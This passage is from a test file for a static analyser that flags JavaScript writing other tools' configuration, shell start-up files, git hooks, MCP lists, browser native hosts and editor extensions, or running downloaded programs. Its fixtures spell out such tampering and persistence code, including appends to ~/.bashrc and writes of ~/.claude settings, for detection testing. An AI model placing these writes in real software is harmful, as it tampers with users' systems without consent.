      'function keys(B){let Q=join(homedir(),process.platform==="darwin"?join("Library","Application Support",B,"User"):join(".config",B,"User")),I=join(Q,"keybindings.json");getFs().writeFileSync(I,"[]")}keys("Cursor");',
    ].join('\n');
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`).sort(), ['medium Writes editor user settings (fs.writeFileSync)', 'medium Writes shell start-up file (fs.appendFileSync)']);
  });

  // Copilot CLI 0.0.354 (review 67): /terminal-setup hands the keybindings path to a writer written as the setup's argument.
  it('follows a path into a function written as an argument, called where the callee calls that parameter (medium)', () => {
    const code = 'const fsp=require("fs").promises,os=require("os"),path=require("path");function userDir(e){return path.join(os.homedir(),".config",e,"User")}async function setup(t,e,write){let a=path.join(e,"keybindings.json");let s=[];return write(t,a,JSON.stringify(s))}async function apply(t,app){return setup(t,userDir(app),async(r,a,I)=>{await fsp.writeFile(a,I,"utf8")})}module.exports=apply';
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), ['medium Writes editor user settings (fs.promises.writeFile)']);
  });

  // Gemini CLI 0.45.2, Claude Code 2.0.77 and Qwen Code 0.15.10 (reviews 61, 62): /terminal-setup's keybindings, a workflow
  // downloaded into .github/workflows, a browser's native messaging host registered.
  it("follows an editor's folder chosen from a table, a workflow named at run time, and a native messaging host manifest (medium)", () => {
    const head = 'const fs=require("fs"),path=require("path"),os=require("os");';
    const editor = `${head}const T={vscode:{app:"Code"},cursor:{app:"Cursor"}};function dir(app){if(os.platform()==="darwin")return path.join(os.homedir(),"Library","Application Support",app,"User");return path.join(os.homedir(),".config",app,"User")}function setup(kind){const d=dir(T[kind].app);const f=path.join(d,"keybindings.json");fs.writeFileSync(f,"[]")}`;
    assert.deepEqual(only('config-tamper', editor).map(f => `${f.severity} ${f.message}`), ['medium Writes editor user settings (*/keybindings.json)']);
    const workflow = `${head}const W=["a.yml","b.yml"];async function get(root){for(const w of W){const r=await fetch("https://x.example.com/"+w);fs.writeFileSync(path.join(root,".github","workflows",path.basename(w)),await r.text())}}`;
    assert.deepEqual(only('config-tamper', workflow).map(f => f.severity), ['medium']);
    const host = `${head}function dir(){return process.platform==="darwin"?path.join(os.homedir(),"Library","Application Support","Google","Chrome","NativeMessagingHosts"):path.join(os.homedir(),".config","google-chrome","NativeMessagingHosts")}function install(p){fs.writeFileSync(path.join(dir(),"com.x.host.json"),JSON.stringify({name:"com.x.host",path:p,type:"stdio"}))}`;
    assert.deepEqual(only('config-tamper', host).map(f => `${f.severity} ${f.message}`), ['medium Writes browser native messaging host (a program the browser starts) (*/com.x.host.json)']);
  });

  // Kilo CLI (review 60): one atomic-write helper for every feature; its callers write unrelated places.
  it('reports a shared write helper at each caller that gives it a different place, at its own severity', () => {
    const code = 'const fs=require("fs"),path=require("path"),os=require("os");function write(f,c){const t=f+".tmp";fs.writeFileSync(t,c);fs.renameSync(t,f)}\nfunction agents(r){write(path.join(r,"AGENTS.md"),"x")}\nfunction claude(){write(path.join(os.homedir(),".claude","settings.json"),"{}")}';
    const lines = code.split('\n');
    assert.deepEqual(only('config-tamper', code, ['google']).map(f => `${f.severity} ${f.line}:${f.column} ${f.message}`), [
      `medium 2:${lines[1].indexOf('write(') + 1} Writes project agent instruction file (AGENTS.md) (fs.renameSync via write())`,
      `high 3:${lines[2].indexOf('write(') + 1} Writes Claude Code / Claude Desktop configuration (fs.renameSync via write())`,
    ]);
    const one = 'const fs=require("fs"),path=require("path"),os=require("os");function write(f,c){fs.writeFileSync(f,c)}function a(){write(path.join(os.homedir(),".zshrc"),"x")}function b(){write(path.join(os.homedir(),".zshrc"),"y")}';
    assert.deepEqual(only('config-tamper', one).map(f => `${f.severity} ${f.message}`), ['medium Writes shell start-up file (fs.writeFileSync)'], 'callers that give the same place: one finding at the helper');
  });

  // Claude Code 1.0.81 (review 79): every rename of the bundle goes through one fs adapter, under an atomic-write helper.
  it('reports a write through general helpers (an fs adapter under an atomic write used for other files) at the call that chooses the place', () => {
    const code = [
      'const nodeFs=require("fs"),path=require("path");var adapter={writeFileSync(p,d){nodeFs.writeFileSync(p,d)},renameSync(a,b){nodeFs.renameSync(a,b)}};function getFs(){return adapter}',
      'function writeAtomic(target,data){const fsx=getFs();const tmp=`${target}.tmp.${process.pid}`;fsx.writeFileSync(tmp,data);fsx.renameSync(tmp,target)}',
      'function saveServers(s){writeAtomic(path.join(process.cwd(),".mcp.json"),JSON.stringify(s))}',
      'function saveCache(d,v){writeAtomic(path.join(d,"cache.json"),JSON.stringify(v))}',
    ].join('\n');
    const found = only('config-tamper', code, ['google']);
    assert.deepEqual(found.map(f => `${f.line}:${f.column} ${f.message}`), [`3:${code.split('\n')[2].indexOf('writeAtomic(') + 1} Writes project MCP server list (.mcp.json) (fs.renameSync via writeAtomic())`]);
    assert.ok(found[0].related.some(r => r.message === 'the helper writes the file here' && r.line === 1), 'the adapter\'s write is a step');
  });

  // Claude Code 2.1.25 (review 82): the adapter times each call, writing in an arrow it hands to a timer; the atomic write falls back to writing the place directly.
  it('reports a write in a function an adapter method hands to a helper, and a fallback write of the place beside its temporary file, where the place is chosen', () => {
    const code = [
      'const aq=require("fs"),path=require("path");function BX(label,fn){const t=performance.now();try{return fn()}finally{performance.now()-t}}const adapter={existsSync(A){return aq.existsSync(A)},writeFileSync(A,K,q){return BX(`writeFileSync(${A})`,()=>aq.writeFileSync(A,K,q))},renameSync(A,K){return BX(`renameSync(${A})`,()=>aq.renameSync(A,K))}};function BA(){return adapter}',
      'function Hf(A,K){const Y=BA();const w=`${A}.tmp.${process.pid}`;try{Y.writeFileSync(w,K,{flush:!0});Y.renameSync(w,A)}catch(H){Y.writeFileSync(A,K,{flush:!0})}}',
      'function saveServers(s){const K=path.join(process.cwd(),".mcp.json");Hf(K,JSON.stringify(s))}',
      'function saveCache(v){Hf(path.join(process.env.HOME,".cache","x","cache.json"),JSON.stringify(v))}',
    ].join('\n');
    const found = only('config-tamper', code, ['google']);
    assert.deepEqual(found.map(f => `${f.line}:${f.column} ${f.message}`), [`3:${code.split('\n')[2].indexOf('Hf(') + 1} Writes project MCP server list (.mcp.json) (fs.writeFileSync via Hf())`]);
    assert.equal(found[0].count, 2, 'the fallback write and the rename');
  });

  // Review 80: helpers at different depths under one adapter (probe 5), and two writes of one start-up file through an adapter (Claude Code 0.2.125's alias setup).
  it('reports each place where its path is chosen, however deep the helpers below, and keeps every write of one place through an adapter', () => {
    const code = [
      'const fs=require("fs"),path=require("path"),os=require("os");const adapter={write(p,d){const t=p+".tmp";fs.writeFileSync(t,d);fs.renameSync(t,p)}};',
      'function writeAtomic(p,d){adapter.write(p,d)}function writeJson(p,o){writeAtomic(p,JSON.stringify(o))}function saveSettings(s){writeJson(path.join(os.homedir(),".mytool","settings.json"),s)}',
      'function exportToClaude(s){const target=path.join(os.homedir(),".claude.json");writeJson(target,s)}',
      'function writeHook(repo,body){writeAtomic(path.join(repo,".git","hooks","pre-commit"),body)}',
    ].join('\n');
    assert.deepEqual(only('config-tamper', code, ['google']).map(f => `${f.line} ${f.severity} ${f.message}`), [
      '3 high Writes Claude Code / Claude Desktop configuration (fs.renameSync via writeJson())',
      '4 medium Writes git hook (fs.renameSync via writeAtomic())',
    ]);
    const alias = 'const fs=require("fs"),os=require("os"),path=require("path");var a={writeFileSync(p,d){fs.writeFileSync(p,d)}};function io(){return a}function add(line,exists){const rc=path.join(os.homedir(),".bashrc");let G=io();if(exists)G.writeFileSync(rc,"# x\\n"+line);else G.writeFileSync(rc,line)}';
    assert.deepEqual(only('config-tamper', alias).map(f => `${f.severity} ${f.message}`), ['medium Writes shell start-up file (fs.writeFileSync)'], 'at the adapter, for both writes');
  });

  // Kilo CLI, an OpenCode fork (reviews 60 and 71): its own settings share OpenCode's file name.
  it("takes a project file's name alone as medium, never high, and not under another tool's fixed folder", () => {
    const head = 'const fs=require("fs"),path=require("path"),os=require("os");';
    const listed = `${head}const FILES=["config.json","kilo.json","opencode.json"];function save(dir,c){for(const f of FILES.map(n=>path.join(dir,n)))fs.writeFileSync(f,c)}`;
    assert.deepEqual(only('config-tamper', listed, ['google']).map(f => `${f.severity} ${f.message}`), ['medium Writes a file named like OpenCode configuration, in a folder chosen at run time (fs.writeFileSync)']);
    const computed = `${head}function save(root,c){fs.writeFileSync(path.join(root,"opencode.json"),c)}`;
    assert.deepEqual(only('config-tamper', computed, ['google']).map(f => f.severity), ['medium']);
    const own = `${head}function save(c){fs.writeFileSync(path.join(os.homedir(),".config","kilo","opencode.json"),c);fs.writeFileSync(path.join(process.cwd(),".kilo","opencode.jsonc"),c)}`;
    assert.deepEqual(only('config-tamper', own, ['kilocode']), [], "under another tool's fixed folder the name is not OpenCode's: Kilo's own settings");
    // claude-code-router 3.1.1 (corpus): it writes Kilo CLI's settings to route Kilo through itself.
    assert.deepEqual(only('config-tamper', own, ['anthropic']).map(f => `${f.severity} ${f.message}`), ['high Writes Kilo CLI configuration (~/.config/kilo/opencode.json)', 'high Writes Kilo CLI configuration (*/.kilo/opencode.jsonc)'], "another tool writing them writes Kilo CLI's configuration");
    const project = `${head}function save(c){fs.writeFileSync("opencode.json",c);fs.writeFileSync(path.join(process.cwd(),"opencode.jsonc"),c);fs.writeFileSync(path.join(os.homedir(),".config","opencode","opencode.json"),c)}`;
    assert.deepEqual(only('config-tamper', project, ['google']).map(f => `${f.severity} ${f.message}`), ['high Writes OpenCode configuration (opencode.json)', 'high Writes OpenCode configuration (*/opencode.jsonc)', 'high Writes OpenCode configuration (~/.config/opencode/opencode.json)']);
  });

  // Kilo CLI 7.7.9 (review 71): `opencode.json` written in its own folders, computed at run time, were 4 false mediums.
  it("leaves a fork the file names it keeps (Kilo CLI's opencode.json), not the original's own folder", () => {
    const head = 'const fs=require("fs"),path=require("path"),os=require("os");';
    const listed = `${head}const FILES=["config.json","kilo.json","opencode.json"];function save(dir,c){for(const f of FILES.map(n=>path.join(dir,n)))fs.writeFileSync(f,c)}`;
    assert.deepEqual(only('config-tamper', listed, ['kilocode']), []);
    const computed = `${head}function save(root,c){fs.writeFileSync(path.join(root,"opencode.json"),c)}`;
    assert.deepEqual(only('config-tamper', computed, ['kilocode']), []);
    const project = `${head}function save(c){fs.writeFileSync("opencode.json",c);fs.writeFileSync(path.join(process.cwd(),"opencode.jsonc"),c);fs.writeFileSync(path.join(os.homedir(),".config","opencode","opencode.json"),c)}`;
    assert.deepEqual(only('config-tamper', project, ['kilocode']).map(f => `${f.severity} ${f.message}`), ['high Writes OpenCode configuration (~/.config/opencode/opencode.json)'], "OpenCode's own folder stays OpenCode's");
  });

  // claude-task-master's init (review 59): a file under the package's own folder is not the user's configuration.
  it("leaves a write under the module's own folder (a template the package ships)", () => {
    const code = 'const fs=require("fs"),path=require("path");function i(c){fs.writeFileSync(path.join(__dirname,"..",".cursor","mcp.json"),JSON.stringify(c))}';
    assert.deepEqual(only('config-tamper', code, ['anthropic']), []);
    const project = 'const fs=require("fs"),path=require("path");function i(c){fs.writeFileSync(path.join(__dirname,"..","..","..",".cursor","mcp.json"),JSON.stringify(c))}';
    assert.deepEqual(only('config-tamper', project, ['anthropic']).map(f => f.severity), ['high'], 'three levels up is the project');
  });

  // @smithery/cli 4.11.1 (review 40): a table of clients, and a writer per file format chosen by
  // the client's own `install.format`. Each writer writes only the clients of its format.
  it("names, at each writer of a dispatch by format, only the table's clients of that format", () => {
    const code = [
      'const os=require("os"),path=require("path"),fs=require("fs");',
      'const CLIENTS={cursor:{install:{format:"json",path:path.join(os.homedir(),".cursor","mcp.json")}},opencode:{install:{format:"jsonc",path:path.join(os.homedir(),".opencode","opencode.jsonc")}},goose:{install:{format:"yaml",path:path.join(os.homedir(),".config","goose","config.yaml")}},claude:{install:{format:"json",path:path.join(os.homedir(),"Library","Application Support","Claude","claude_desktop_config.json")}}};',
      'function clientOf(n){return CLIENTS[n]}',
      'function writeConfig(cfg,name){const c=clientOf(name);const n=c.install.format;n==="jsonc"?writeJsonc(cfg,c):n==="yaml"?writeYaml(cfg,c):writeJson(cfg,c)}',
      'function writeJson(cfg,c){fs.writeFileSync(c.install.path,JSON.stringify(cfg))}',
      'function writeJsonc(cfg,c){fs.writeFileSync(c.install.path,JSON.stringify(cfg))}',
      'function writeYaml(cfg,c){if(c.install.format!=="yaml")return;fs.writeFileSync(c.install.path,String(cfg))}',
      'function viaSwitch(cfg,c){switch(c.install.format){case "yaml":fs.appendFileSync(c.install.path,"x");break;default:fs.writeFileSync(c.install.path,"y")}}',
      'function run(name){viaSwitch({},clientOf(name))}',
    ].join('\n');
    const found = only('config-tamper', code, ['cline']);
    const at = (s: string) => found.find(f => f.line === code.split('\n').findIndex(l => l.startsWith(s)) + 1);
    assert.match(at('function writeJson(')!.message, /^Writes Cursor configuration, Claude Code \/ Claude Desktop configuration \(fs\.writeFileSync\)$/);
    assert.match(at('function writeJsonc(')!.message, /^Writes OpenCode configuration \(fs\.writeFileSync\)$/);
    assert.match(at('function writeYaml(')!.message, /^Writes Goose configuration \(fs\.writeFileSync\)$/);
    // A switch case is a guard too, in the writer itself; the default case is not (a case above may fall into it).
    const viaSwitch = found.filter(f => f.line === code.split('\n').findIndex(l => l.startsWith('function viaSwitch')) + 1);
    assert.deepEqual(viaSwitch.map(f => f.message), ['Writes Goose configuration (fs.appendFileSync)', 'Writes Cursor configuration, OpenCode configuration, Goose configuration and 1 more (fs.writeFileSync)']);
    assert.ok(viaSwitch[1].evidence.some(e => e.includes('claude_desktop_config.json')), viaSwitch[1].evidence.join('\n'));
  });

  it("flags another assistant's configuration written through fs-extra (outputJson, copy) as high", () => {
    const code = 'import fse from "fs-extra";import os from "os";import path from "path";export async function init(d){await fse.writeFile(path.join(d,".codex","config.toml"),"x");await fse.outputJson(path.join(os.homedir(),".claude","settings.json"),{});await fse.copy("a",path.join(os.homedir(),".cursor","mcp.json"))}';
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), [
      'high Writes Codex CLI configuration (*/.codex/config.toml)',
      'high Writes Claude Code / Claude Desktop configuration (~/.claude/settings.json)',
      'high Writes Cursor configuration (~/.cursor/mcp.json)',
    ]);
  });

  it('flags an append to a shell start-up file as medium', () => {
    const code = 'import{appendFile as a}from"fs/promises";import{join as j}from"path";import{homedir as h}from"os";async function i(){await a(j(h(),".zshrc"),"export PATH=x\\n")}';
    const [t] = only('config-tamper', code);
    assert.equal(t.severity, 'medium');
    assert.ok(t.related.some(r => r.message.includes('~/.zshrc')));
  });

  it('names every start-up file a local may hold when it is assigned in branches ($SHELL picks .zshrc, .bashrc or fish), not the last one only', () => {
    const code = [
      'const fs=require("fs"),os=require("os"),path=require("path");',
      'function ensure(bin){const shell=process.env.SHELL||"";const home=os.homedir();let rc=null;',
      'if(shell.endsWith("/zsh"))rc=path.join(home,".zshrc");else if(shell.endsWith("/bash"))rc=path.join(home,".bashrc");',
      'else if(shell.endsWith("/fish"))rc=path.join(home,".config","fish","config.fish");',
      'if(!rc)return;fs.appendFileSync(rc,"export PATH="+bin);}module.exports={ensure};',
    ].join('\n');
    const [t] = only('config-tamper', code);
    assert.equal(t.severity, 'medium');
    for (const file of ['~/.zshrc', '~/.bashrc', '~/.config/fish/config.fish']) assert.ok(t.evidence.some(e => e.includes(file)), file);
    const later = code.replace('if(!rc)return;fs.appendFileSync(rc,', 'if(!rc)return;rc=path.join(home,"notes.txt");fs.appendFileSync(rc,');
    assert.deepEqual(only('config-tamper', later), [], 'an assignment in the list that declares the name replaces the values of every branch');
    const suffixed = code.replace('if(!rc)return;fs.appendFileSync(rc,', 'if(!rc)return;let b=rc;b=b+".bak";fs.appendFileSync(b,');
    assert.deepEqual(only('config-tamper', suffixed), [], 'a backup name assigned after its base in one list is another file');
  });

  it("follows a folder joined in two steps, and a base folder or file name chosen in branches, to another assistant's configuration (claude-code-templates' installers): high", () => {
    const head = 'const fs=require("fs-extra"),path=require("path"),os=require("os");';
    const twoSteps = head + 'async function agent(n,t){const dir=path.join(t,".claude","agents");await fs.ensureDir(dir);const file=path.join(dir,`${n}.md`);await fs.writeFile(file,"x")}module.exports={agent};';
    assert.deepEqual(only('config-tamper', twoSteps).map(f => `${f.severity} ${f.message}`), ['high Writes Claude Code / Claude Desktop configuration (*/.claude/agents/*.md)']);
    const branches = head + 'async function hook(h,t,where){let base=t;let name="settings.local.json";if(where==="user"){base=os.homedir();name="settings.json"}const dir=path.join(base,".claude");const f=path.join(dir,name);await fs.writeJson(f,h)}module.exports={hook};';
    const [found] = only('config-tamper', branches);
    assert.equal(found?.severity, 'high');
    assert.ok(found.evidence.includes('path ~/.claude/settings.json'), JSON.stringify(found.evidence));
    const elsewhere = head + 'async function note(n,t){const dir=path.join(t,"notes");const file=path.join(dir,`${n}.md`);await fs.writeFile(file,"x")}module.exports={note};';
    assert.deepEqual(only('config-tamper', elsewhere), []);
  });

  it("follows start-up files pushed onto a list and written in a loop (claude-code-templates' addToPath)", () => {
    const code = 'const fs=require("fs-extra"),path=require("path"),os=require("os");async function add(line){const sh=process.env.SHELL||"";const rc=[];if(sh.includes("bash"))rc.push(path.join(os.homedir(),".bashrc"));if(sh.includes("zsh"))rc.push(path.join(os.homedir(),".zshrc"));for(const f of rc){await fs.writeFile(f,line)}}module.exports={add};';
    const [t] = only('config-tamper', code);
    assert.equal(t?.severity, 'medium');
    for (const file of ['~/.bashrc', '~/.zshrc']) assert.ok(t.evidence.some(e => e.includes(file)), file);
    assert.deepEqual(only('config-tamper', code.replace('for(const f of rc)', 'for(const f of other)')), [], 'another list is written');
  });

  it("follows a loop over a table's entries or a list of objects to the file written (an updater rewriting .zshrc and .bashrc), not a key", () => {
    const head = 'const fs=require("fs"),os=require("os"),path=require("path");function u(){const h=os.homedir();';
    const entries = head + 'const files={zsh:path.join(h,".zshrc"),bash:path.join(h,".bashrc")};for(const [k,f] of Object.entries(files)){const t=fs.readFileSync(f,"utf8");fs.writeFileSync(f,t.replace(/alias x=.*/,""))}}module.exports={u};';
    const [t] = only('config-tamper', entries);
    assert.equal(t.severity, 'medium');
    for (const file of ['~/.zshrc', '~/.bashrc']) assert.ok(t.evidence.some(e => e.includes(file)), file);
    const objects = head + 'const list=[{p:path.join(h,".zshrc")}];for(const {p} of list){fs.writeFileSync(p,"x")}}module.exports={u};';
    assert.deepEqual(only('config-tamper', objects).map(f => f.severity), ['medium']);
    const key = head + 'const files={zsh:path.join(h,".zshrc")};for(const [f,k] of Object.entries(files)){fs.writeFileSync(f,"x")}}module.exports={u};';
    assert.deepEqual(only('config-tamper', key), [], "an entry's key is a name, not the file");
  });

  it('follows a path helper only for the call in hand: another call naming ~/.gitconfig does not taint this write (seen in a real bundle)', () => {
    const code = 'const fs=require("fs"),o=require("os");function at(n){return n.replace("~",o.homedir())}\nfunction g(){return fs.readFileSync(at("~/.gitconfig"),"utf8")}\nfunction w(d){fs.writeFileSync(at("~/.cache/tool.json"),d)}';
    assert.deepEqual(only('config-tamper', code), []);
    const tamper = code.replace('at("~/.cache/tool.json")', 'at("~/.zshrc")');
    assert.deepEqual(only('config-tamper', tamper).map(f => f.severity), ['medium']);
  });

  // Fourth review: a list chosen by its key (`protected`) reads as a deny list, but what the code does with it decides.
  it('follows a write into a start-up file listed under a deny-list key: the list is named at info, the write is still tampering', () => {
    const code = 'const fs=require("fs"),os=require("os");const cfg={protected:["~/.bashrc"]};function w(){for(const p of cfg.protected) fs.appendFileSync(p.replace("~",os.homedir()),"export PATH=x")}';
    assert.deepEqual(only('persistence-location', code).map(f => f.severity), ['info']);
    assert.deepEqual(only('config-tamper', code).map(f => f.severity), ['medium']);
  });

  it('leaves a chmod of a folder on the way to ~/.gitconfig (a sandbox securing it, seen in a real bundle)', () => {
    const code = 'const fs=require("fs"),p=require("path"),o=require("os");function lock(d){fs.chmodSync(d,448)}\nfunction s(){lock(p.join(o.homedir(),".gitconfig"))}';
    assert.deepEqual(only('config-tamper', code), []);
  });

  it('leaves a backup beside a start-up file (rc + ".bak", `${rc}.orig`): another file', () => {
    const code = 'const fs=require("fs"),p=require("path"),o=require("os");function b(){const rc=p.join(o.homedir(),".zshrc");fs.copyFileSync(rc,rc+".bak");fs.writeFileSync(`${rc}.orig`,"x")}';
    assert.deepEqual(only('config-tamper', code), []);
    const sep = 'const fs=require("fs"),p=require("path"),o=require("os");function b(){fs.writeFileSync(o.homedir()+p.sep+".zshrc","x");fs.appendFileSync(`${o.homedir()}${p.sep}.bashrc`,"y")}';
    assert.deepEqual(only('config-tamper', sep).map(f => f.severity), ['medium', 'medium'], 'a separator before the name still names the file');
    // Kilo Code's dev-setup, as Bun ships it: the backup's name goes on after its suffix.
    const stamped = 'const fs=require("fs"),p=require("path"),o=require("os");async function b(D){const H=p.join(o.homedir(),".bashrc");let f=`${H}.kilodev.bak.${Date.now()}`;fs.writeFileSync(f,D);fs.writeFileSync(H+".orig."+Date.now(),D)}';
    assert.deepEqual(only('config-tamper', stamped), []);
    assert.deepEqual(only('config-tamper', stamped.replace('fs.writeFileSync(f,D)', 'fs.writeFileSync(H,D)')).map(f => f.severity), ['medium'], 'the rc file itself is still reported');
  });

  it("leaves a copy of another assistant's configuration written into a temporary directory (Cline preparing a Claude Code session)", () => {
    const code = 'import{homedir as H,tmpdir as T}from"os";import{join as j}from"path";import{writeFile as w}from"fs/promises";async function k(src,dst,c){await w(dst,c)}\nasync function r(s){let L=j(T(),`claude-resume-${s}`),O=j(H(),".claude.json");await k(O,j(L,".claude.json"),"{}")}';
    assert.deepEqual(only('config-tamper', code, ['cline']), []);
    const real = code.replace('k(O,j(L,".claude.json")', 'k(L,O');
    assert.deepEqual(only('config-tamper', real, ['cline']).map(f => f.severity), ['high']);
    const mkdtemp = 'const fs=require("fs"),p=require("path"),o=require("os");function s(c){const d=fs.mkdtempSync(p.join(o.tmpdir(),"x-"));fs.writeFileSync(p.join(d,".cursor","mcp.json"),c)}';
    assert.deepEqual(only('config-tamper', mkdtemp, ['cline']), []);
    // GitHub Copilot's language server, as esbuild ships it: path and os as namespace objects
    // filled by a lazy initialiser, `Rc.join` (path.join, not an array's join) through a helper.
    const copilot = 'var Rc,rSe,Q_;async function Jyl(t,e){await(0,Q_.copyFile)(t,e)}async function U0o(){let l=(0,Rc.join)((0,rSe.tmpdir)(),`claude-resume-x`);await Jyl((0,Rc.join)((0,rSe.homedir)(),".claude.json"),(0,Rc.join)(l,".claude.json"))}var init=v(()=>{Rc=require("path");rSe=require("os");Q_=require("fs/promises")});';
    assert.deepEqual(only('config-tamper', copilot, ['github']), []);
    const copilotReal = copilot.replace('Jyl((0,Rc.join)((0,rSe.homedir)(),".claude.json"),(0,Rc.join)(l,".claude.json"))', 'Jyl((0,Rc.join)(l,".claude.json"),(0,Rc.join)((0,rSe.homedir)(),".claude.json"))');
    assert.deepEqual(only('config-tamper', copilotReal, ['github']).map(f => f.severity), ['high'], 'copying into the real ~/.claude.json is still reported');
  });

  it('does not mix up two loops of one function that reuse a variable name (Qoder CLI symlinking worktree folders)', () => {
    // The first loop symlinks configured folders; the second only checks for a hooks folder.
    const code = 'const fs=require("fs"),ml=require("path");async function w(A,e,r){for(let o of r){let c=ml.join(e,o.trim());await fs.promises.symlink(ml.join(A,o),c,"dir")}for(let o of[ml.join(A,".husky"),ml.join(A,".git","hooks")])try{if(fs.statSync(o).isDirectory())break}catch{}}';
    assert.deepEqual(only('config-tamper', code), []);
    const hook = 'const fs=require("fs"),ml=require("path");function w(A){let o=ml.join(A,".git","hooks");fs.writeFileSync(ml.join(o,"pre-commit"),"x")}';
    assert.deepEqual(only('config-tamper', hook).map(f => f.severity), ['medium'], 'a write into the hooks folder is still reported');
  });

  it('takes element 0 of a destructured array as element 0 (Kilo Code opening a device-login URL with xdg-open)', () => {
    const code = 'const cp=require("child_process");async function f(){const A=await (await fetch("https://x.example.com/device")).json();const {verificationUrl:I}=A,[E,...g]=["xdg-open",I];return cp.execFile(E,g,{})}';
    assert.ok(!only('download-exec', code).some(f => f.severity === 'high'), 'the program is xdg-open, not the server\'s');
    const real = 'const cp=require("child_process");async function f(){const A=await (await fetch("https://x.example.com/device")).json();const [E,...g]=[A.cmd,"x"];return cp.execFile(E,g,{})}';
    assert.deepEqual(only('download-exec', real).map(f => f.severity), ['high'], 'a program named by the response is still high');
  });

  it('follows the value a reused name has before its use, not after (auggie upgrading itself from a registry response)', () => {
    const code = 'const cp=require("child_process");async function up(x){let r=await (await fetch("https://registry.npmjs.org/x")).json();let o=r.version;run(o);if(x){let o=5;console.log(o)}}function run(t){cp.execFileSync("npm",["install","-g",`x@${t}`])}';
    assert.deepEqual(only('download-exec', code).map(f => f.severity), ['medium']);
  });

  it('reports a process start whose command writes the place: shell redirections, tee, PlistBuddy, defaults (review 87)', () => {
    const shell = 'const cp=require("child_process");cp.execSync("echo \'export X=1\' >> ~/.zshrc")';
    assert.deepEqual(only('config-tamper', shell).map(f => `${f.severity} ${f.message}`), ["medium Runs a command that writes shell start-up file: echo 'export X=1' >> ~/.zshrc"]);
    const tee = 'const cp=require("child_process"),os=require("os");cp.execFileSync("tee",["-a",os.homedir()+"/.bashrc"],{input:"x"})';
    assert.deepEqual(only('config-tamper', tee).map(f => f.severity), ['medium'], 'the operand followed as a value');
    // Claude Code 2.1.20's /terminal-setup: PlistBuddy through its own runner, the file from a helper.
    const plist = 'const cp=require("child_process"),p=require("path"),os=require("os");function u6(A,K){return new Promise(r=>cp.execFile(A,K,(e,o)=>r({code:e?1:0})))}function w(){return p.join(os.homedir(),"Library","Preferences","com.apple.Terminal.plist")}async function P(A){await u6("/usr/libexec/PlistBuddy",["-c",`Add :\'Window Settings\':\'${A}\':Bell bool false`,w()]);await u6("defaults",["import","com.apple.Terminal","/tmp/b.plist"])}';
    assert.deepEqual(only('config-tamper', plist).map(f => `${f.line}:${f.column} ${f.severity} ${f.message}`), [
      "1:268 medium Runs a command that writes Terminal.app preference file: /usr/libexec/PlistBuddy -c * *",
      '1:363 medium Runs a command that writes Terminal.app preference file: defaults import com.apple.Terminal /tmp/b.plist',
    ]);
  });

  // Review 97's probes: places the command line spells itself, a file naming no other place, one word per argument.
  it('reports places a command spells itself: a literal path in a shell line, a defaults domain in a file that names no other place, a PlistBuddy command given as one argument', () => {
    const lines = [
      ['const cp=require("child_process");cp.execSync("cp /tmp/new.conf ~/.config/kitty/kitty.conf")', 'medium Runs a command that writes kitty configuration: cp /tmp/new.conf ~/.config/kitty/kitty.conf'],
      ['const cp=require("child_process");cp.execSync("echo x | tee -a ~/.bashrc")', 'medium Runs a command that writes shell start-up file: echo x | tee -a ~/.bashrc'],
      ['const cp=require("child_process");cp.execFile("defaults",["write","com.googlecode.iterm2","PromptOnQuit","-bool","false"])', 'medium Runs a command that writes iTerm2 preference file: defaults write com.googlecode.iterm2 PromptOnQuit -bool false'],
      ['const cp=require("child_process"),p=require("path"),os=require("os");cp.execFile("/usr/libexec/PlistBuddy",["-c","Set :Foo 1",p.join(os.homedir(),"Library/Preferences/com.apple.Terminal.plist")])', 'medium Runs a command that writes Terminal.app preference file: /usr/libexec/PlistBuddy -c Set :Foo 1 *'],
    ];
    for (const [code, expected] of lines) assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), [expected], code);
    assert.deepEqual(only('config-tamper', 'const cp=require("child_process");cp.execSync("echo x >> ~/.claude/settings.json")', ['anthropic']), [], "the assistant's own configuration");
  });

  // Claude Agent SDK 0.3.337 (review 101): `i = e.cfg && Ul(dirname(e.cfg))` is Ul's result when the path is set; Ul returns nothing.
  it("does not take the left of && for a value (it is the value only when falsy): a folder beside the git config is not the git config", () => {
    const code = 'const{writeFile}=require("fs/promises"),{dirname,join}=require("path"),{homedir}=require("os");function Ul(e){return}async function w(e){let s=[join(homedir(),".cache","x")],i=e.cfg&&Ul(dirname(e.cfg));if(i)s.push(i);for(let l of s)await writeFile(join(l,"ignore"),"x")}module.exports=()=>w({cfg:join(homedir(),".gitconfig")})';
    assert.deepEqual(only('config-tamper', code), []);
    assert.deepEqual(only('config-tamper', code.replace('i=e.cfg&&Ul(dirname(e.cfg))', 'i=e.cfg||Ul(dirname(e.cfg))').replace('join(l,"ignore")', 'l')).map(f => f.severity), ['medium'], 'the left of || is the value');
  });

  // claude-flow 3.43.0 (review 100): `codex mcp add …` and `claude mcp add …` change those assistants' server lists.
  it("reports another assistant's or editor's own command for its configuration (claude mcp add, code --install-extension), not the assistant's own or a read", () => {
    const lines = [
      ['const cp=require("child_process");cp.execSync("codex mcp add ruflo -- npx -y ruflo@latest mcp start")', 'high Runs a command that writes Codex CLI configuration: codex mcp add ruflo -- npx -y ruflo@latest mcp start'],
      ['const cp=require("child_process");cp.execFileSync("claude",["mcp","add","-s","project","x","--","npx","x"])', 'medium Runs a command that writes project MCP server list (.mcp.json): claude mcp add -s project x -- npx x'],
      ['const cp=require("child_process");cp.execFile("cursor",["--install-extension","acme.helper"])', 'medium Runs a command that writes editor extensions folder (code the editor runs): cursor --install-extension acme.helper'],
    ];
    for (const [code, expected] of lines) assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), [expected], code);
    assert.deepEqual(only('config-tamper', 'const cp=require("child_process");cp.execSync("claude mcp add x -- npx x")', ['anthropic']), [], "the assistant's own command");
    for (const reads of ['cp.execSync("claude mcp list")', 'cp.execSync("codex mcp get ruflo")', 'cp.execFile("code",["--list-extensions"])', 'cp.execSync("claude mcp add --help")', 'cp.execFile("code",["--install-extension","--help"])']) assert.deepEqual(only('config-tamper', `const cp=require("child_process");${reads}`), [], reads);
    // gemini and qwen `mcp add` write the project's settings unless asked for the user's (code review of this change).
